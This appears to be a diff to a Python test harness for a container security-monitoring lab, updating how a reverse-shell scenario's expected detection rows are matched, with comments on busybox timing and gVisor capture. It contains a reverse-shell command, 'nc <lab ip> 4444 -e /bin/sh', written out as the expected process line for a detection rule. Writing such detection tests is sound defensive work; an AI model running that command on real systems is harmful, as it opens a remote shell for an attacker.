@@ -105,7 +105,16 @@ def scenario_reverse_shell(lab: Any, sr: Any, opts: Any) -> None:
     time.sleep(8.0)
     act.end = time.time()
     sr.actions.append(act)
-    sr.process_expects.append((web.id, f"nc {lip} 4444", f"RS1 nc {lip} 4444 -e /bin/sh", False))
+    # The exec row of `nc ... -e /bin/sh`, or of the shell nc turned into: busybox nc execs the
+    # shell in its own process about a millisecond after connecting, so a capture that wakes late
+    # (a starved host; gVisor ignores the capture's real-time priority) reads the shell's cmdline
+    # for that pid. Either row, with the socket on stdio, is what the reverse_shell rule uses.
+    sr.row_expects.append((
+        "container_process_events",
+        f"RS1 nc {lip} 4444 -e /bin/sh (exec row of nc or of the shell it became)",
+        lambda r, cid=web.id: R.same_id(r.get("container_id", ""), cid)
+        and (f"nc {lip} 4444" in (r.get("cmdline") or "")
+             or r.get("stdio_remote") == f"tcp {lip}:4444")))
     sr.row_expects.append((
         "container_processes", f"a shell in {web.name} with stdio on tcp {lip}:4444",
         lambda r, cid=web.id: R.same_id(r.get("container_id", ""), cid)
